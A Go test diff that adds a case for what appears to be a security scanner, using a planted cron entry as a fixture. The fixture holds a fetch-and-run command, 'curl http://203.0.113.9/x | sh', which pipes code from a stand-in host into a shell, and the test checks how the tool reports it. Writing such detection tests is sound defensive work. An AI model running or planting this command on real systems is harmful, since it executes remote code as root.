@@ -183,3 +183,14 @@ func TestManyAlike(t *testing.T) {
 		t.Errorf("%d, of which %d count the rest", len(s.Exposed), n)
 	}
 }
+
+func TestNobodyKnowsAsWhom(t *testing.T) {
+	s := Build(t.Context(), append(lie(), cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")), full())
+	check(t, &s)
+	if len(s.Exposed) != 0 || !slices.ContainsFunc(s.Unknown, func(u string) bool { return strings.Contains(u, "as which account") }) {
+		t.Errorf("%s; %q", told(&s), s.Unknown)
+	}
+	if got := reached(&s); got != "likely download 203.0.113.9 as root" {
+		t.Error(got)
+	}
+}
